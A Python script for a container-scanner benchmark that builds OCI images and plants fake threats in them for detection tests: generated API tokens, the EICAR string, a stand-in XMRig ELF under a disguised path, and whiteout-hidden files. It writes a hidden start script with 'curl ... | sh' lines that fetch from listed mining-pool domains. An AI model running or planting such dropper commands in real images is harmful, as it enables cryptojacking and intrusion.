#!/usr/bin/env python3
"""plants.py - threats for the issue-6 benchmark images, and OCI layouts from tar files.

    bench/plants.py append IMAGE_DIR [--secrets N] [--seed S]
        Adds two layers to an OCI layout written by bench/gen_image.py (tag "latest"):
          layer A: the demo image's planted files (demo/layers/1 and 2: secrets in .env,
                   .aws/credentials, .docker/config.json, an XMRig stand-in ELF and config,
                   a pool in /etc/hosts, a cron dropper), the EICAR test file (YARA rule and
                   the .hsb hash), N generated provider tokens in config files, IOC domains
                   from data/ioc/default.csv in a script, hidden dot-directories;
          layer B: a whiteout removing one secret file and the EICAR file of layer A (files
                   hidden in the image: still inside it, reported "removed in layer").
        Writes IMAGE_DIR/planted.tsv (path, kind, detail). Blobs of the existing layers are
        not touched; config, manifest and index.json are rewritten.

    bench/plants.py oci OUT_DIR TAR [TAR...] [--compression gzip|zstd]
        Writes an OCI layout (tag "latest") with one layer per tar file (e.g. the Debian
        minbase rootfs.tar cached by scripts/fixture-debootstrap.sh).

Deterministic for given arguments. Everything planted is fake (test keys, .invalid hosts,
public IOC feed entries).
"""
import argparse
import gzip
import hashlib
import io
import json
import os
import random
import string
import subprocess
import sys
import tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
EICAR = b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
MT = {'gzip': 'application/vnd.oci.image.layer.v1.tar+gzip',
      'zstd': 'application/vnd.oci.image.layer.v1.tar+zstd',
      'none': 'application/vnd.oci.image.layer.v1.tar'}


def blob_path(d, digest):
    return os.path.join(d, 'blobs', 'sha256', digest.split(':')[1])


def put_json(d, obj):
    data = json.dumps(obj, separators=(',', ':')).encode()
    dg = 'sha256:' + hashlib.sha256(data).hexdigest()
    with open(blob_path(d, dg), 'wb') as f:
        f.write(data)
    return dg, len(data)


def sha256_file(path):
    h = hashlib.sha256()
    with open(path, 'rb') as f:
        for b in iter(lambda: f.read(1 << 20), b''):
            h.update(b)
    return 'sha256:' + h.hexdigest()


def add_layer_from_tar(d, tar_path, compression):
    """Compress tar_path into a blob of layout d. -> (descriptor, diff_id)"""
    diff_id = sha256_file(tar_path)
    tmp = os.path.join(d, 'blobs', 'sha256', 'tmp-layer')
    with open(tar_path, 'rb') as src, open(tmp, 'wb') as out:
        if compression == 'gzip':
            # gzip -6 (the usual docker/buildkit level); pigz would be faster but is optional
            subprocess.run(['gzip', '-6', '-n', '-c'], stdin=src, stdout=out, check=True)
        elif compression == 'zstd':
            subprocess.run(['zstd', '-q', '-3', '-c'], stdin=src, stdout=out, check=True)
        else:
            for b in iter(lambda: src.read(1 << 20), b''):
                out.write(b)
    dg = sha256_file(tmp)
    os.rename(tmp, blob_path(d, dg))
    return {'mediaType': MT[compression], 'digest': dg, 'size': os.path.getsize(blob_path(d, dg))}, diff_id


def add_layer_bytes(d, tar_bytes, compression='gzip'):
    diff_id = 'sha256:' + hashlib.sha256(tar_bytes).hexdigest()
    if compression == 'gzip':
        data = gzip.compress(tar_bytes, compresslevel=6, mtime=0)
    else:
        data = tar_bytes
    dg = 'sha256:' + hashlib.sha256(data).hexdigest()
    with open(blob_path(d, dg), 'wb') as f:
        f.write(data)
    return {'mediaType': MT[compression], 'digest': dg, 'size': len(data)}, diff_id


def write_image(d, layers, diff_ids, history, config_extra=None):
    cfg = {'created': '1970-01-01T00:00:00Z', 'architecture': 'amd64', 'os': 'linux',
           'config': {'Cmd': ['/bin/sh']},
           'rootfs': {'type': 'layers', 'diff_ids': diff_ids}, 'history': history}
    if config_extra:
        cfg.update(config_extra)
    cd, cs = put_json(d, cfg)
    man = {'schemaVersion': 2, 'mediaType': 'application/vnd.oci.image.manifest.v1+json',
           'config': {'mediaType': 'application/vnd.oci.image.config.v1+json', 'digest': cd,
                      'size': cs},
           'layers': layers}
    md, ms = put_json(d, man)
    with open(os.path.join(d, 'oci-layout'), 'w') as f:
        json.dump({'imageLayoutVersion': '1.0.0'}, f)
    tmp = os.path.join(d, 'index.json.tmp')
    with open(tmp, 'w') as f:  # a new inode: a hard-linked copy of a layout stays intact
        json.dump({'schemaVersion': 2, 'manifests': [
            {'mediaType': 'application/vnd.oci.image.manifest.v1+json', 'digest': md,
             'size': ms, 'annotations': {'org.opencontainers.image.ref.name': 'latest'}}]}, f)
    os.replace(tmp, os.path.join(d, 'index.json'))


class TarBuf:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tf = tarfile.open(fileobj=self.buf, mode='w', format=tarfile.PAX_FORMAT)
        self.dirs = set()

    def _ti(self, name, type_, mode):
        t = tarfile.TarInfo(name)
        t.type, t.mode, t.mtime = type_, mode, 0
        t.uname = t.gname = ''
        return t

    def _parents(self, path):
        parts = path.split('/')[:-1]
        for i in range(1, len(parts) + 1):
            p = '/'.join(parts[:i])
            if p not in self.dirs:
                self.dirs.add(p)
                self.tf.addfile(self._ti(p, tarfile.DIRTYPE, 0o755))

    def file(self, path, data, mode=0o644):
        self._parents(path)
        t = self._ti(path, tarfile.REGTYPE, mode)
        t.size = len(data)
        self.tf.addfile(t, io.BytesIO(data))

    def done(self):
        self.tf.close()
        return self.buf.getvalue()


def rs(rng, alphabet, n):
    return ''.join(rng.choice(alphabet) for _ in range(n))


AN = string.ascii_letters + string.digits


def token_makers(rng):
    return [
        ('github-pat', lambda: 'ghp_' + rs(rng, AN, 36)),
        ('gitlab-pat', lambda: 'glpat-' + rs(rng, AN + '-_', 20)),
        ('slack-bot-token', lambda: 'xoxb-%s-%s-%s' % (rs(rng, string.digits, 12),
                                                      rs(rng, string.digits, 13), rs(rng, AN, 24))),
        ('stripe-access-token', lambda: 'sk_live_' + rs(rng, AN, 24)),
        ('npm-access-token', lambda: 'npm_' + rs(rng, AN, 36)),
        ('sendgrid-api-token', lambda: 'SG.' + rs(rng, AN, 22) + '.' + rs(rng, AN, 43)),
        ('dockerhub-pat', lambda: 'dckr_pat_' + rs(rng, AN, 27)),
        ('digitalocean-pat', lambda: 'dop_v1_' + rs(rng, '0123456789abcdef', 64)),
    ]


def ioc_domains(n):
    out = []
    with open(os.path.join(ROOT, 'data', 'ioc', 'default.csv')) as f:
        for line in f:
            if line.startswith('#') or line.startswith('indicator,'):
                continue
            ind, cat = line.split(',')[:2]
            if cat == 'mining_pool':
                out.append(ind)
            if len(out) >= n:
                break
    return out


def cmd_append(a):
    d = a.image
    rng = random.Random(a.seed)
    idx = json.load(open(os.path.join(d, 'index.json')))
    man = json.load(open(blob_path(d, idx['manifests'][0]['digest'])))
    cfg = json.load(open(blob_path(d, man['config']['digest'])))
    if any('bench plants' in h.get('created_by', '') for h in cfg.get('history', [])):
        print('plants: %s already has its plants' % d)
        return
    planted = []
    t = TarBuf()
    # the demo image's planted files, layers 1 and 2 (later overrides earlier)
    files = {}
    for li in ('1', '2'):
        base = os.path.join(ROOT, 'demo', 'layers', li)
        for dp, _, fns in os.walk(base):
            for fn in fns:
                p = os.path.join(dp, fn)
                files[os.path.relpath(p, base)] = p
    for rel in sorted(files):
        mode = 0o755 if os.access(files[rel], os.X_OK) else 0o644
        t.file(rel, open(files[rel], 'rb').read(), mode)
        planted.append((rel, 'demo', 'demo/layers file'))
    t.file('opt/bench/eicar.com', EICAR)
    planted.append(('opt/bench/eicar.com', 'yara+hash+hidden', 'EICAR (removed in the next layer)'))
    # generated provider tokens in config files, one per line
    makers = token_makers(rng)
    for i in range(a.secrets):
        fam, mk = makers[i % len(makers)]
        path = 'srv/app%02d/.config/settings-%d.conf' % (i % 17, i)
        tok = mk()
        body = ('# service settings\nlisten = 0.0.0.0:%d\nlog_level = info\n'
                'upstream_token = "%s"\n' % (8000 + i, tok)).encode()
        t.file(path, body)
        planted.append((path, 'secret', fam))
    # IOC domains (mining pools) in a start script and a config
    doms = ioc_domains(8)
    t.file('usr/local/share/.x/run.sh', ('#!/bin/sh\n' + ''.join(
        'curl -s http://%s/a.sh | sh\n' % dm for dm in doms[:4])).encode(), 0o755)
    t.file('etc/bench-pools.conf', ''.join('pool = stratum+tcp://%s:3333\n' % dm
                                           for dm in doms[4:]).encode())
    for dm in doms:
        planted.append(('usr/local/share/.x/run.sh or etc/bench-pools.conf', 'ioc', dm))
    # miner strings in a stand-in ELF (is_elf and 2 of them)
    elf = (b'\x7fELF\x02\x01\x01' + b'\0' * 57 +
           b"XMRig/%s\0--donate-level\0randomx\0stratum+tcp://\0cpu-max-threads-hint\0" +
           bytes(rng.getrandbits(8) for _ in range(4096)))
    t.file('usr/lib/.systemd-private/kworkerds', elf, 0o755)
    planted.append(('usr/lib/.systemd-private/kworkerds', 'miner', 'xmrig strings in an ELF'))
    hidden_secret = 'srv/app00/.config/settings-0.conf'
    desc_a, diff_a = add_layer_bytes(d, t.done())
    w = TarBuf()
    for p in ('opt/bench/eicar.com', hidden_secret):
        dn, bn = os.path.split(p)
        w.file(os.path.join(dn, '.wh.' + bn), b'')
    planted.append((hidden_secret, 'hidden', 'removed by a whiteout in the last layer'))
    desc_b, diff_b = add_layer_bytes(d, w.done())
    man['layers'] += [desc_a, desc_b]
    diff_ids = cfg['rootfs']['diff_ids'] + [diff_a, diff_b]
    history = cfg.get('history', []) + [
        {'created': '1970-01-01T00:00:00Z', 'created_by': 'bench plants: threats'},
        {'created': '1970-01-01T00:00:00Z', 'created_by': 'bench plants: whiteouts'}]
    write_image(d, man['layers'], diff_ids, history)
    with open(os.path.join(d, 'planted.tsv'), 'w') as f:
        for row in planted:
            f.write('\t'.join(row) + '\n')
    print('plants: %s: +2 layers, %d planted items' % (d, len(planted)))


def cmd_oci(a):
    d = a.out
    os.makedirs(os.path.join(d, 'blobs', 'sha256'), exist_ok=True)
    layers, diff_ids, hist = [], [], []
    for tp in a.tars:
        desc, did = add_layer_from_tar(d, tp, a.compression)
        layers.append(desc)
        diff_ids.append(did)
        hist.append({'created': '1970-01-01T00:00:00Z', 'created_by': 'ADD %s /' % os.path.basename(tp)})
    write_image(d, layers, diff_ids, hist)
    print('oci: %s: %d layers' % (d, len(layers)))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    sub = ap.add_subparsers(dest='cmd', required=True)
    p = sub.add_parser('append')
    p.add_argument('image')
    p.add_argument('--secrets', type=int, default=64)
    p.add_argument('--seed', type=int, default=6)
    p = sub.add_parser('oci')
    p.add_argument('out')
    p.add_argument('tars', nargs='+')
    p.add_argument('--compression', default='gzip', choices=('gzip', 'zstd', 'none'))
    a = ap.parse_args()
    {'append': cmd_append, 'oci': cmd_oci}[a.cmd](a)


if __name__ == '__main__':
    sys.exit(main())
